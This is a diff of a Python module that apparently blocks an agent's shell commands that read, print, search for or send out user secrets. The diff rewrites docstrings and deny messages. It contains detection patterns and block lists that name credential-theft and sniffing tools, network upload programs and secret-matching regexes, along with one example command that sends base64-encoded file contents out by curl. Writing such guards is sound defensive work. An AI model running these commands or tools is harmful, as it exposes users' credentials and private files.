@@ -1,4 +1,4 @@
-"""Secrets, and sending things away."""
+"""Secrets, and data sent to other hosts."""
 
 from __future__ import annotations
 
@@ -40,7 +40,7 @@ _SECRET_CODE = r"os\.environ\b(?!\[|\.get)|process\.env\b(?!\.)|\bENV\b(?!\[)|di
 
 
 def _reads(command: SimpleCommand, context: ShellContext) -> bool:
-    """Secrets of the user, whatever for."""
+    """Whether it reads the user's secrets, for whatever purpose."""
     for word in effects.read(command):
         path = paths.resolve(word, command.directory, context)
         if path is None or _is_public(command, path):
@@ -59,7 +59,7 @@ _SEARCHED = r"(?i)passw|secret|token|api.?key|private.?key|BEGIN|AKIA|ghp_|sk-|c
 
 
 def _searches(command: SimpleCommand, context: ShellContext) -> bool:
-    """For keys and passwords, in all that the user has."""
+    """Whether it searches for keys and passwords outside the project."""
     if command.program not in ("grep", "egrep", "fgrep", "rg", "ag", "ack"):
         return False
     if not arguments.is_recursive(command) and command.program not in ("rg", "ag", "ack"):
@@ -85,12 +85,12 @@ def _is_secret(path: str, word: Word, context: ShellContext) -> bool:
 
 
 def _is_public(command: SimpleCommand, path: str) -> bool:
-    """`mkdir -p ~/.ssh`, `ls ~/.ssh`: no content is read."""
+    """Whether it reads no file content, like `mkdir -p ~/.ssh` or `ls ~/.ssh`."""
     return command.program in ("ls", "stat", "test", "mkdir", "touch")
 
 
 def _prints(command: SimpleCommand, context: ShellContext) -> bool:
-    """A secret variable goes to the screen, and with it into the transcript."""
+    """Whether it prints a secret variable, which then lands in the transcript."""
     if command.piped or any(operator.startswith((">", "&>")) for operator, _ in command.redirects):
         return False
     if command.program in ("grep", "egrep", "rg", "ag") and command.upstream:
@@ -129,7 +129,7 @@ def _is_local(command: SimpleCommand) -> bool:
 
 
 def _sends_secret(command: SimpleCommand, context: ShellContext) -> bool:
-    """A secret goes to a program that talks to the network."""
+    """Whether a secret is passed to a program that talks to the network."""
     if command.program not in _SENDERS or is_harmless(command):
         return False
     if _is_local(command) and command.program in ("curl", "wget", "http", "xh"):
@@ -148,7 +148,7 @@ def _sends_secret(command: SimpleCommand, context: ShellContext) -> bool:
 
 
 def _is_header(command: SimpleCommand, number: int) -> bool:
-    """A token in a header, as user or as an option of a cloud's own tool is how it is meant to be used."""
+    """Whether a token is used as intended: in a header, as the user, or as an option of a cloud CLI."""
     before = command.args[number - 1] if number else Word("")
     word = command.args[number]
     if command.program in ("curl", "wget", "http", "https", "xh", "httpie"):
@@ -162,7 +162,7 @@ def _is_header(command: SimpleCommand, number: int) -> bool:
 
 
 def _files(command: SimpleCommand) -> list[Word]:
-    """The files that it sends."""
+    """Return the files that a command sends."""
     found = [
         Word(value.replace("=<", "@").partition("@")[2].partition(";")[0])
         for value in values_of(command.args, _DATA)
@@ -201,7 +201,7 @@ def _is_secret_file(word: Word, command: SimpleCommand, context: ShellContext) -
 
 
 def _uploads(command: SimpleCommand, context: ShellContext) -> bool:
-    """Files to a host that is not this one."""
+    """Whether it sends files to another host."""
     if command.program not in words_of("curl wget http https xh nc ncat netcat telnet scp rsync sftp"):
         return False
     if _is_local(command) or is_harmless(command):
@@ -234,7 +234,7 @@ def _uploads(command: SimpleCommand, context: ShellContext) -> bool:
 
 
 def _drop(command: SimpleCommand, context: ShellContext) -> bool:
-    """Sites where things are left for others."""
+    """Whether it sends data to a paste site, webhook collector or file drop."""
     if command.program not in _SENDERS:
         return False
     text = " ".join(command.args)
@@ -260,7 +260,7 @@ def _metadata(command: SimpleCommand, context: ShellContext) -> bool:
 
 
 def _lookup(command: SimpleCommand, context: ShellContext) -> bool:
-    """Data in the name that is looked up."""
+    """Whether it hides data in a DNS name."""
     if command.program not in ("dig", "nslookup", "host", "ping"):
         return False
     return any((UNKNOWN in word or SECRET in word) and "." in word for word in command.args)
@@ -275,7 +275,7 @@ def _code(command: SimpleCommand, context: ShellContext) -> bool:
 
 
 def _query(command: SimpleCommand, context: ShellContext) -> bool:
-    """The output of another command in an address: `curl https://x/?$(cat file | base64)`."""
+    """Whether it puts the output of another command into a URL: `curl https://x/?$(cat file | base64)`."""
     if command.program not in ("curl", "wget") or _is_local(command):
         return False
     text = command.text
@@ -299,14 +299,14 @@ def _query(command: SimpleCommand, context: ShellContext) -> bool:
     return sent and bool(leaks & set(inside))
 
 
-_SHOWN = "It shows a secret, which would end up in logs. Programs that need it find it by themselves."
-_SENT = "It sends secrets or files of the user away. Leave that to the user."
+_SHOWN = "Prints a secret, which would end up in logs. Programs that need it read it themselves."
+_SENT = "Sends the user's secrets or files to another host. Leave that to the user."
 
 RULES = (
     DenyRule(
         "read-secrets",
         CATEGORY,
-        "These are the user's keys, passwords or history. Programs that need them find them by themselves.",
+        "Reads the user's keys, passwords or history. Programs that need them read them themselves.",
         _reads,
     ),
     DenyRule("search-secrets", CATEGORY, _SHOWN, _searches),
@@ -320,7 +320,7 @@ RULES = (
     DenyRule(
         "cloud-metadata",
         CATEGORY,
-        "This address hands out the machine's credentials. Leave it alone.",
+        "Contacts an address that hands out this machine's credentials. Leave it alone.",
         _metadata,
     ),
     DenyRule(
@@ -352,11 +352,16 @@ RULES = (
             "nmcli ~*password*|--show-secrets",
         ),
     ),
-    DenyRule("ssh-keys", CATEGORY, "It gives others access by a key. Leave that to the user.", "ssh-copy-id"),
+    DenyRule(
+        "ssh-keys",
+        CATEGORY,
+        "Gives an SSH key access to another machine. Leave that to the user.",
+        "ssh-copy-id",
+    ),
     DenyRule(
         "sniff",
         CATEGORY,
-        "It listens to what others send or type. Leave that to the user.",
+        "Captures network traffic, keystrokes, process memory or passwords. Leave that to the user.",
         "tcpdump|tshark|dumpcat|ettercap|bettercap|keylogger|logkeys|xinput|mimipenguin|mimikatz|gcore|john|hashcat|hydra|responder",
     ),
 )
